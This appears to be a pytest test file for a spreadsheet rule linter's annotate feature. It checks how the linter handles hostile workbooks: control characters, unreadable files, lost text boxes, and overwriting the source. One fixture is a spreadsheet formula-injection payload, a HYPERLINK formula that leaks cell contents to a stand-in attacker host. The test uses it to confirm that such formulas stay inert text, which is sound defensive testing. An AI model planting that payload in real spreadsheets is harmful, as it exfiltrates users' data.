"""Hostile workbooks through --annotate: no crash on control characters, no live formula
in the copy, one line when openpyxl cannot read the file, and the copy says what it lacks."""

from __future__ import annotations

import io
import re

import openpyxl
import pytest
from helpers_core import decision, write_xlsx
from helpers_hostile import digest, dtable_here, error_line, rewrite
from PIL import Image as PILImage
from python_calamine import CalamineWorkbook

import engine
from engine.analysis import analyse
from engine.annotate import annotate_copy, source_features

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'

TEXT_BOX = (
    '<twoCellAnchor><from><col>1</col><colOff>0</colOff><row>10</row><rowOff>0</rowOff></from>'
    '<to><col>4</col><colOff>0</colOff><row>14</row><rowOff>0</rowOff></to>'
    '<sp macro="" textlink="" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><nvSpPr><cNvPr id="9" name="TextBox 1"/><cNvSpPr txBox="1"/></nvSpPr>'
    '<spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="1000000" cy="500000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></spPr>'
    "<txBody><a:bodyPr/><a:lstStyle/><a:p><a:r><a:t>Read me first</a:t></a:r></a:p></txBody></sp><clientData/></twoCellAnchor>"
)  # fmt: skip


def overlapping_rules(label: str = "R2") -> list[list[str]]:
    return decision("d", "U", ["x"], ["o"], [["R1", '"a"', '"x"'], [label, '"a"', '"y"']])


def lint_cli(book, out, *more):
    return dtable_here("lint", str(book), "--annotate", str(out), *more)


# ------------------------------------------------------------------ 8. control characters


@pytest.mark.parametrize("escape", ["_x0001_", "_x0000_", "_x001B_"])
def test_control_characters_in_cells_are_escaped_or_shown_as_symbols(tmp_path, escape):
    code = int(escape[2:6], 16)
    rows = decision("d", "U", ["x"], ["o"], [["R1", '"a"', '"x"'], ["R2", '"aXb"', '"y"']])
    broken = decision("e", "U", ["x"], ["o"], [["R1", "zX", '"z"']])  # apart: a broken rule leaves gaps unchecked (DT104)
    book = write_xlsx(tmp_path / "rules.xlsx", {"d": rows, "e": broken})
    rewrite(book, lambda name, data: data.replace(b"X", escape.encode()) if "sheet" in name else data)
    out = tmp_path / "out.xlsx"
    run = lint_cli(book, out)
    assert run.returncode == 1 and "Traceback" not in run.stderr, run.stderr  # e's R1 is a syntax error
    assert not any(chr(c) in run.stdout for c in range(32) if chr(c) != "\n")
    assert f'"a\\u{code:04x}b"' in run.stdout  # a value in a message: a FEEL escape, pasteable into a cell
    assert f"z{chr(0x2400 + code)}" in run.stdout  # the cell text under the caret: a symbol (␁, ␀, ␛)
    lint = CalamineWorkbook.from_path(str(out)).get_sheet_by_name("Lint").to_python()
    messages = " ".join(str(cell) for row in lint for cell in row)
    assert f'"a\\u{code:04x}b"' in messages and not any(chr(c) in messages for c in range(32) if chr(c) != "\n")
    assert openpyxl.load_workbook(out)["d"]["B5"].value == f'"a{escape}b"'  # the tables are copied as they were


def test_text_openpyxls_parser_rejects_is_one_line(tmp_path):
    book = write_xlsx(tmp_path / "rules.xlsx", {"d": overlapping_rules()})
    rewrite(book, lambda name, data: data.replace(b'"a"</t>', b'"a&#1;"</t>', 1) if "sheet" in name else data)
    out = tmp_path / "out.xlsx"
    before = digest(book)
    message = error_line(lint_cli(book, out))
    assert re.fullmatch(
        f"cannot annotate {re.escape(str(book))}: openpyxl, which writes the copy, cannot read it "
        r"\(reference to invalid character number: line 1, column \d+\)",
        message,
    )
    assert digest(book) == before and not out.exists()


# ------------------------------------------------------------------ 7. no formula in the Lint sheet


def test_labels_and_messages_like_formulas_stay_text(tmp_path):
    book = write_xlsx(tmp_path / "rules.xlsx", {"d": overlapping_rules(HYPERLINK)})
    out = tmp_path / "out.xlsx"
    assert lint_cli(book, out).returncode == 1
    lint = openpyxl.load_workbook(out)["Lint"]
    cells = [cell for row in lint.iter_rows() for cell in row if cell.value is not None]
    assert any(cell.value == f"R1, {HYPERLINK}" for cell in cells)
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []


# ------------------------------------------------------------------ 8. what the copy lacks


@pytest.fixture
def decorated(tmp_path):
    """A rulebook with a picture, a text box and a formula with its cached result."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "d"
    for row in overlapping_rules():
        sheet.append(row)
        for cell in sheet[sheet.max_row]:
            cell.data_type = "s"
    sheet["G1"] = "=1+1"
    png = io.BytesIO()
    PILImage.new("RGB", (4, 4), "red").save(png, "PNG")
    png.seek(0)
    sheet.add_image(openpyxl.drawing.image.Image(png), "G3")
    path = tmp_path / "decorated.xlsx"
    book.save(path)

    def change(name, data):
        if name.startswith("xl/drawings/drawing"):
            data = data.replace(b"</wsDr>", TEXT_BOX.encode() + b"</wsDr>")
        if name.startswith("xl/worksheets/sheet"):
            data = re.sub(rb"<f>1\+1</f>(<v\s*/>|<v></v>)?", b"<f>1+1</f><v>2</v>", data)
        return data

    return rewrite(path, change)


def test_the_copy_keeps_pictures_and_says_what_it_lacks(decorated, tmp_path):
    assert source_features(decorated) == {"pictures": 1, "text boxes and shapes": 1, "cached formula results": 1}
    out = tmp_path / "out.xlsx"
    run = lint_cli(decorated, out)
    assert run.returncode == 1, run.stderr
    lacks = (
        "the copy lacks 1 of 1 text boxes and shapes; the cached results of 1 formula "
        "(Excel and LibreOffice recompute them on opening; other readers see empty cells)"
    )  # pictures are kept (openpyxl with Pillow)
    assert run.stderr.splitlines()[-1] == f"note: {lacks}"
    copied = source_features(out)
    assert copied["pictures"] == 1 and copied["text boxes and shapes"] == 0 and copied["cached formula results"] == 0
    lint = openpyxl.load_workbook(out)["Lint"]
    assert [row for row in lint.iter_rows(values_only=True) if row[0] == "note"] == [
        ("note", None, None, None, None, lacks, None, None)
    ]


def test_a_plain_workbook_lacks_nothing(tmp_path):
    book = write_xlsx(tmp_path / "rules.xlsx", {"d": overlapping_rules()})
    copy = annotate_copy(book, tmp_path / "out.xlsx", analyse(engine.read(book).tables))
    assert copy.lacks == () and copy.findings >= 1


# ------------------------------------------------------------------ 1. the copy is never written over a file read


def test_the_copy_is_not_written_into_the_rulebook_folder(tmp_path):
    write_xlsx(tmp_path / "rules.xlsx", {"d": overlapping_rules()})
    out = tmp_path / "linted.xlsx"
    message = error_line(dtable_here("lint", str(tmp_path), "--annotate", str(out)))
    assert message == (
        f"the annotated copy {out} is inside the rulebook folder {tmp_path}, where it would be read "
        "as a rulebook next time; write it to another folder"
    )
    assert not out.exists()


def test_the_copy_through_a_hard_link_to_the_source_is_refused(tmp_path):
    book = write_xlsx(tmp_path / "rules.xlsx", {"d": overlapping_rules()})
    (tmp_path / "other").mkdir()
    link = tmp_path / "other" / "copy.xlsx"
    link.hardlink_to(book)
    before = digest(book)
    assert error_line(lint_cli(book, link)) == f"refusing to overwrite the workbook being linted: {link}"
    assert digest(book) == before
